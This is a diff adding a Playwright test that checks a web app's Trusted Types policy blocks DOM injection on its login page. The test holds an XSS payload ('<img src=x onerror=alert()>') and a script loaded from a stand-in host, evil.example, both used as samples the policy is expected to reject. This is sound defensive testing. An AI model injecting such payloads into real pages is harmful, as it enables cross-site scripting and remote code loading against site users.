@@ -13,6 +13,26 @@ test('without a session every guarded route leads to the sign-in page', async ({
   await expect(page.getByRole('heading', { name: 'Assessment Login' })).toBeVisible();
 });
 
+test('no text of a page becomes HTML or a script of another site', async ({ page, consoles }) => {
+  consoles.expect(/require-trusted-types-for|This document requires 'TrustedHTML'/);
+  await page.goto('/login');
+  const tries = await page.evaluate(() =>
+    [
+      () =>
+        Object.assign(document.createElement('p'), { innerHTML: '<img src=x onerror=alert()>' }),
+      () => Object.assign(document.createElement('script'), { src: 'https://evil.example/x.js' }),
+      () => new DOMParser().parseFromString('<p>', 'text/html'),
+    ].map((run) => {
+      try {
+        return String(run());
+      } catch (error) {
+        return error instanceof Error ? error.name : 'thrown';
+      }
+    }),
+  );
+  expect(tries).toEqual(['TypeError', 'TypeError', 'TypeError']);
+});
+
 test('an unknown path is not found, signed in or not', { tag: '@long' }, async ({ page }) => {
   for (const path of ['/nowhere', '/admin/nowhere', '/quiz/nowhere']) {
     await page.goto(path);
